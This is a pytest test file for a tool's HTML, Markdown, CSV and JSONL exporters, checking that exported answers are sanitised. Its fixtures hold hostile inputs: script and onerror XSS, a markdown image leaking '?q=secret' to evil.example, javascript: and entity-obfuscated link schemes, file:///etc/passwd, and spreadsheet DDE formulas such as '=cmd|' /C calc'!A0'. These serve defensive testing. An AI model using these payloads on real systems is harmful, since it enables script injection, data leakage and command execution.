"""Papers and answers are strangers' words: whatever they say, a file of them only shows it."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from distllm.export.csv import csv_rows, guarded, unguarded
from distllm.export.formats import Format
from distllm.export.jsonl import _line
from distllm.export.markdown import _cell, _harmless, _inline, _quoted
from tests.export.export_kit import answer, exported
from tests.store.store_kit import SqliteStore, add_job, paper

HOSTILE = (
    "</div></body><script>alert(1)</script>\n"
    "<img src=x onerror=alert(2)> ![see](http://evil.example/?q=secret) <!-- \n"
    "```\nno end of this fence\n# A heading\n[x]: http://evil.example\n"
    "| a | \\| b |\n</details></table><style>*{display:none}</style>\n"
    "{{ 7*7 }} {% raw %} \x1b[2J\x00\x07 \u202egnp.exe\u2028 end of it"
)
FORMULA = '=HYPERLINK("http://evil.example", "click")'


@pytest.fixture
def store(sqlite_store: SqliteStore) -> SqliteStore:
    """A new database file, whose texts may hold every character."""
    return sqlite_store


@pytest.fixture
def job(store: SqliteStore) -> int:
    """One paper whose title, answers and error are hostile."""
    document = paper("one")
    object.__setattr__(document, "title", f"{HOSTILE} title")
    job_id = add_job(store, [document], ["findings", "limits"])
    answer(store, {("0.txt", "findings"): HOSTILE, ("0.txt", "limits"): FORMULA})
    store.rows("UPDATE jobs SET name = ?", HOSTILE)
    store.rows("UPDATE results SET thinking = ?", HOSTILE)
    store.rows("UPDATE workers SET name = ?", HOSTILE)
    store.rows("UPDATE templates SET text = ?", HOSTILE)
    store.rows("UPDATE job_documents SET name = ?", HOSTILE)
    return job_id


class Page(HTMLParser):
    """What a browser would make of a page: its tags, and whatever could ask another host for something."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.open: list[str] = []
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ("meta", "br"):
            self.open.append(tag)
        for name, value in attributes:
            assert not name.startswith("on"), name
            if name in ("href", "src", "srcset", "action", "data", "poster", "background"):
                self.links.append(str(value))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("wide", [False, True])
async def test_html_is_closed_has_no_script_and_asks_no_other_host(store: SqliteStore, job: int, wide: bool) -> None:
    text = (await exported(store.path, job, Format.HTML, wide=wide)).decode()
    page = Page()
    page.feed(text)
    page.close()
    assert page.open == []
    assert not set(page.tags) & {"script", "img", "link", "iframe", "object", "embed", "base", "form", "svg", "video"}
    assert page.tags.count("style") == 1
    assert all(link.startswith("#") for link in page.links)
    style = text[text.index("<style>") : text.index("</style>")]
    assert "url(" not in style
    assert "@import" not in style
    assert "<script>alert(1)</script>" in page.text
    assert "{{ 7*7 }}" in page.text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)
    assert "default-src 'none'" in text


def rendered(text: str) -> str:
    return str(MarkdownIt("gfm-like", {"linkify": False}).render(text))


@pytest.mark.parametrize("wide", [False, True])
async def test_markdown_keeps_its_form_whatever_answers_say(store: SqliteStore, job: int, wide: bool) -> None:
    text = (await exported(store.path, job, Format.MARKDOWN, wide=wide)).decode()
    page = rendered(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)
    for tag in ("<script", "<img", "<style", "<details", "</details", "<!--"):
        assert tag not in page
    outside = re.sub(r"(?s)<blockquote>.*?</blockquote>", "", page)
    assert outside.count("<h1>") == 1
    assert "<h1>A heading" not in outside
    assert "<pre>" not in outside
    if wide:
        assert page.count("<tr>") == 2
        for row in re.findall(r"(?s)<tr>(.*?)</tr>", page):
            assert len(re.findall("<t[hd]", row)) == 6
    else:
        assert outside.count("<h3>") == 2


@settings(max_examples=40)
@given(st.text())
def test_a_text_in_markdown_never_leaves_its_place(text: str) -> None:
    for quoted in (_quoted(text), _quoted(f"```\n{text}"), _quoted(f"<div>\n{text}")):
        page = rendered(f"{quoted}\n\nAFTER")
        assert page.endswith("<p>AFTER</p>\n")
        assert not re.search(r"<(script|img|style|div|!--)", page)
    assert "\n" not in _inline(text)
    heading = rendered(f"# x{_inline(text)}")
    assert heading.startswith("<h1>x")
    assert heading.count("<") == 2


@settings(max_examples=40)
@given(st.text(st.sampled_from("\\|!<>`*_[]()&;#ab \n")))
def test_no_mixture_of_backslashes_and_pipes_makes_a_cell_or_an_image(text: str) -> None:
    cell = _harmless(text).strip().replace("|", "&#124;").replace("\n", "<br>")
    page = rendered(f"| a | b |\n|---|---|\n| {cell} | {_inline(text)} |\n")
    assert page.count("<td>") == 2
    assert "<img" not in page


SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:x", "vbscript:x", "data:text/html,x", "file:///etc/passwd", "x:y")
ENTITIES = ("&#106;avascript:x", "javascript&colon;x", "javascript&#58;x", "&#x6a;avascript:x", r"javascript\:x")


@pytest.mark.parametrize("address", [*SCHEMES, *ENTITIES])
def test_a_link_leads_to_the_web_or_nowhere(address: str) -> None:
    parser = MarkdownIt("gfm-like", {"linkify": False})
    # As lenient as a viewer may be.
    parser.validateLink = lambda _: True  # type: ignore[method-assign]
    for text in (
        f"[x]({address})",
        f"[x]( {address} 'title')",
        f"[x](<{address}>)",
        f"[x](\n{address})",
        f"![x]({address})",
        f"[![x]({address})]({address})",
        f"[x]: {address}\n\n[x], [y][x] and ![x]",
        f"[x]:\n{address}\n\n[x]",
        f"<{address}> <a href='{address}'>x</a>",
        f"[a]({address}) [b](https://example.org/a:b) [c](mailto:a@b.example)",
    ):
        for placed in (_quoted(text), f"| a |\n|---|\n| {_cell({'answer': text})} |"):
            links = re.findall(r'(?:href|src)="([^"]*)"', str(parser.render(placed)))
            assert all(re.match("https://|mailto:", link) for link in links), (text, links)
            assert ("example.org" in text) == bool(links)


@pytest.mark.parametrize("text", ["see [1]: it is so", "a[i](x) and b[j](y)", "[here](https://a.example/x?y=&z)"])
def test_what_is_no_odd_link_stays_as_it_is(text: str) -> None:
    assert _harmless(text) == text


async def test_csv_and_jsonl_keep_every_character(store: SqliteStore, job: int) -> None:
    lines = (await exported(store.path, job, Format.JSONL)).decode().split("\n")
    assert lines.pop() == ""
    rows = [json.loads(line) for line in lines]
    assert [row["answer"] for row in rows] == [HOSTILE, FORMULA]
    assert rows[0]["title"] == f"{HOSTILE} title"
    table = (await exported(store.path, job, Format.CSV)).decode("utf-8-sig")
    cells = list(csv.DictReader(io.StringIO(table, newline="")))
    assert [cell["answer"] for cell in cells] == [HOSTILE, f"'{FORMULA}"]


TEXTS = st.text(st.characters(exclude_categories=["Cs"])) | st.text(st.sampled_from("'=+-@\t\r\n ,\"a1.e\uff1d"))


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), min_size=1))
def test_csv_can_be_read_back(rows: list[list[str]]) -> None:
    data = csv_rows(rows).decode()
    read = list(csv.reader(io.StringIO(data, newline="")))
    assert [[unguarded(cell) for cell in row] for row in read] == rows


@given(TEXTS)
def test_a_guarded_cell_is_no_formula_and_can_be_undone(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    if not re.fullmatch(r"-[0-9].*", cell):
        assert not re.match(r"[\t\r]|\s*[=+\-@]", cell)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("- a list", "'- a list"),
        ("-0.31", "-0.31"),
        ("-1e5", "-1e5"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("+49 30 1234", "'+49 30 1234"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20x", "'\uff20x"),
        ("\u00a0\u3000=1", "'\u00a0\u3000=1"),
        ("\r=1", "'\r=1"),
        ("-1\n=1", "'-1\n=1"),
        ("  =1+1", "'  =1+1"),
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("\tx", "'\tx"),
        ("'tis", "'tis"),
        ("'=1", "''=1"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_what_is_guarded(text: str, cell: str) -> None:
    assert guarded(text) == cell
    assert unguarded(cell) == text


def test_numbers_are_left_alone() -> None:
    assert [guarded(cell) for cell in (-5, -0.5, None)] == [-5, -0.5, None]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=5,
)


@settings(max_examples=40)
@given(st.dictionaries(st.text(), JSON))
def test_a_line_of_jsonl_can_be_read_back(record: dict[str, object]) -> None:
    line = _line(record)
    assert line.count(b"\n") == 1
    assert json.loads(line) == record
